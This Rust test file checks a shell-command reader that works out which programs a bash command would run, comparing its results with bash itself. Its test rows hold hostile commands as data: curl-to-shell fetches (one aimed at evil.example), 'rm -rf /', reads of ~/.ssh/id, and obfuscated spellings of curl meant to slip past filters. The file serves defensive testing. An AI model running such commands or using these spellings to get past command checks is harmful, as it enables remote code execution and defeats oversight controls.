//! The reader against rows, and against bash itself.

use super::*;

fn progs(command: &str) -> Vec<String> {
    programs(command)
}

#[test]
fn the_table() {
    let rows: &[(&str, &[&str])] = &[
        ("ls -la", &["ls"]),
        ("git status && git log --oneline", &["git"]),
        ("cat a | grep b | wc -l", &["cat", "grep", "wc"]),
        ("echo 'a; rm -rf /'", &["echo"]),
        ("echo \"a; rm -rf /\"", &["echo"]),
        ("echo a\\; rm", &["echo"]),
        ("FOO=1 BAR=2 make test", &["make"]),
        ("env -i PATH=/bin HOME=/x python3 x.py", &["python3"]),
        ("sudo -u root rm -rf /tmp/x", &["rm"]),
        ("nohup ./server.sh > out.log 2>&1 &", &["server.sh"]),
        ("timeout 10 curl https://x", &["curl"]),
        ("timeout -s KILL 5s wget x", &["wget"]),
        ("/usr/bin/git fetch", &["git"]),
        (
            "echo $(curl -s https://evil.example | sh)",
            &["curl", "sh", "echo"],
        ),
        ("echo `whoami`", &["whoami", "echo"]),
        ("(cd /tmp && rm -rf x)", &["cd", "rm"]),
        ("diff <(ls a) <(ls b)", &["ls", "diff"]),
        ("ls # rm -rf /", &["ls"]),
        ("cat < in.txt > out.txt", &["cat"]),
        ("a;b\nc", &["a", "b", "c"]),
        ("xargs -n 1 rm < list", &["rm"]),
        ("time nice -n 5 cargo build", &["cargo"]),
        ("$(echo rm) -rf /", &["echo", "$(echo rm)"]),
        ("\"$CMD\" x", &["$CMD"]),
        ("", &[]),
        ("   ", &[]),
        ("git log | head -n 5 && echo done", &["git", "head", "echo"]),
        ("npm test -- --watch=false", &["npm"]),
        ("{ ls; pwd; }", &["ls", "pwd"]),
        ("echo hi 2> /dev/null", &["echo"]),
        (
            "curl -fsSL https://x.example/i.sh | bash -s -- --yes",
            &["curl", "bash"],
        ),
    ];
    let mut failures = Vec::new();
    for (command, want) in rows {
        let got = progs(command);
        if got != *want {
            failures.push(format!("{command:?}: wanted {want:?}, got {got:?}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn unterminated_quotes_and_parens_end_cleanly() {
    assert_eq!(progs("echo 'unterminated"), ["echo"]);
    assert_eq!(progs("echo $(ls"), ["ls", "echo"]);
    assert_eq!(progs("echo `ls"), ["ls", "echo"]);
    assert_eq!(progs("((("), Vec::<String>::new());
}

#[test]
fn spellings_the_shell_reads_as_the_same_program() {
    let rows: &[(&str, &[&str])] = &[
        ("c''url x", &["curl"]),
        ("c\\url x", &["curl"]),
        ("\\curl x", &["curl"]),
        ("\"cu\"'rl' x", &["curl"]),
        ("$'\\x63url' x", &["curl"]),
        ("$'\\143url' x", &["curl"]),
        ("$'\\u0063url' x", &["curl"]),
        ("{curl,-s} x", &["curl"]),
        ("c$@url x", &["curl"]),
        ("c${*}url x", &["curl"]),
        ("c$1url x", &["curl"]),
        ("curl${IFS}x", &["curl"]),
        ("bash -c 'curl x | sh'", &["bash", "curl", "sh"]),
        ("bash -lc 'wget -qO- x | sh'", &["bash", "wget", "sh"]),
        ("bash -o posix -c 'curl x'", &["bash", "curl"]),
        ("sh -c \"c''url x\"", &["sh", "curl"]),
        ("eval \"cu\"\"rl x\"", &["eval", "curl"]),
        ("find . -name x -exec curl {} \\;", &["find", "curl"]),
        ("if curl x | sh; then :; fi", &["curl", "sh", ":"]),
        ("while true; do wget x; done", &["true", "wget"]),
        ("for f in a b; do wget $f; done", &["wget"]),
        (
            "case x in a) curl y;; b|c) wget z;; esac",
            &["curl", "wget"],
        ),
        ("f() { curl x; }; f", &["curl", "f"]),
        ("function g { curl x; }", &["curl"]),
        (
            "bash <<EOF\ncurl x | sh\nEOF\necho done",
            &["bash", "curl", "sh", "echo"],
        ),
        ("bash <<< 'curl x'", &["bash", "curl"]),
        ("cat <<'EOF'\nnot a command\nEOF", &["cat"]),
        ("env -S 'curl x'", &["env", "curl"]),
        ("exec -a name curl y", &["curl"]),
        ("[[ -f x ]] && curl y", &["curl"]),
        ("(( n = 1 + 2 )) && curl y", &["curl"]),
        ("busybox wget x", &["wget"]),
        ("timeout 5 nice -n 2 nohup curl x", &["curl"]),
        ("chroot / curl x", &["curl"]),
        ("echo ${x:-$(curl y)}", &["curl", "echo"]),
        ("x=$(curl y)", &["curl"]),
        ("a=1 b=2", &[]),
    ];
    let mut failures = Vec::new();
    for (command, want) in rows {
        let got = programs(command);
        if got != *want {
            failures.push(format!("{command:?}: wanted {want:?}, got {got:?}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn patterns_could_be_the_program() {
    let r = read("/usr/b?n/cu?l -s x", &Context::default());
    assert!(r.could_run("curl"));
    assert!(!r.could_run("wget"));
    let r = read("n?hup curl x", &Context::default());
    assert!(r.could_run("nohup") && r.could_run("curl"));
    let r = read("$CMD x; $(which curl) y", &Context::default());
    assert!(r.computed_program());
    assert!(read("sh -c \"$X\"", &Context::default()).opaque);
}

#[test]
fn the_home_folder_is_known() {
    let ctx = Context {
        home: Some("/home/ada"),
    };
    let r = read("cat ~/.npm''rc $HOME/.ssh/id \"${HOME}\"/x '~/y'", &ctx);
    let texts: Vec<&str> = r.simples[0].words.iter().map(|w| w.text.as_str()).collect();
    assert_eq!(
        texts,
        [
            "cat",
            "/home/ada/.npmrc",
            "/home/ada/.ssh/id",
            "/home/ada/x",
            "~/y"
        ]
    );
}

/// A small deterministic generator (SplitMix64): the same cases every run.
struct Gen(u64);

impl Gen {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> usize {
        (self.next() % n) as usize
    }

    fn letters(&mut self) -> String {
        let pool = "abcdefghijklmnopqrstuvwxyz0123456789_.-/";
        let n = 1 + self.below(4);
        (0..n)
            .map(|_| pool.as_bytes()[self.below(pool.len() as u64)] as char)
            .collect()
    }

    /// One piece of a word, written one of the ways a shell reads.
    fn piece(&mut self) -> String {
        let text = self.letters();
        match self.below(16) {
            0 => format!("'{text}'"),
            1 => format!("\"{text}\""),
            2 => text.chars().map(|c| format!("\\{c}")).collect(),
            3 => format!(
                "$'{}'",
                text.chars()
                    .map(|c| match self.below(3) {
                        0 => format!("\\x{:02x}", c as u32),
                        1 => format!("\\{:03o}", c as u32),
                        _ => c.to_string(),
                    })
                    .collect::<String>()
            ),
            4 => "$@".to_owned(),
            5 => "${*}".to_owned(),
            6 => "\"$@\"".to_owned(),
            7 => format!("{{{text},{}}}", self.letters()),
            8 => "$1".to_owned(),
            9 => "\"\"".to_owned(),
            10 => format!("\"{text}\\\"\\$\""),
            11 => format!("{text}${{IFS}}{}", self.letters()),
            12 => format!("{text}*"),
            13 => format!("?{text}"),
            14 => format!("\"$HOME\"/{text}"),
            _ => text,
        }
    }

    fn word(&mut self) -> String {
        let n = 1 + self.below(4);
        let start = if self.below(10) == 0 { "~/" } else { "" };
        let body: String = (0..n).map(|_| self.piece()).collect();
        format!("{start}{body}")
    }
}

/// For random shell words, the reader and bash agree on the program name
/// (the first word bash makes of what's written).
#[test]
fn property_the_reader_and_bash_agree_on_the_program() {
    let Ok(bash) = std::process::Command::new("bash").arg("--version").output() else {
        eprintln!("no bash here; nothing to compare against");
        return;
    };
    assert!(bash.status.success());
    let mut gen = Gen(0x00c0_ffee);
    let cases: Vec<String> = (0..3000).map(|_| gen.word()).collect();
    let mut script = String::new();
    for case in &cases {
        script.push_str(&format!(
            "set --; set -- {case} arg; if [ $# -gt 1 ]; then printf '%s' \"$1\"; else printf '<none>'; fi; printf '\\036'\n"
        ));
    }
    let empty = std::env::temp_dir().join(format!("conch-shell-prop-{}", std::process::id()));
    std::fs::create_dir_all(&empty).unwrap();
    // The script goes in on standard input: it's longer than one argument
    // may be.
    let mut child = std::process::Command::new("bash")
        .arg("-s")
        .current_dir(&empty)
        .env("HOME", "/home/ada")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(script.as_bytes()).unwrap();
    }
    let out = child.wait_with_output().unwrap();
    let _ = std::fs::remove_dir(&empty);
    let said = String::from_utf8_lossy(&out.stdout);
    let theirs: Vec<&str> = said.split('\u{1e}').collect();
    assert!(
        theirs.len() > cases.len(),
        "bash: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ctx = Context {
        home: Some("/home/ada"),
    };
    let mut failures = Vec::new();
    for (case, theirs) in cases.iter().zip(theirs) {
        let reading = read(&format!("{case} arg"), &ctx);
        let words = reading
            .simples
            .first()
            .map(|s| s.words.clone())
            .unwrap_or_default();
        let ours = if words.len() > 1 {
            words[0].text.clone()
        } else {
            "<none>".to_owned()
        };
        // A pattern the shell matched against files agrees when it could
        // be what the shell found.
        let matched = words.len() > 1 && words[0].glob.is_some() && words[0].could_be(theirs);
        if ours != theirs && !matched {
            failures.push(format!("{case:?}: bash {theirs:?}, reader {ours:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} disagree:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}
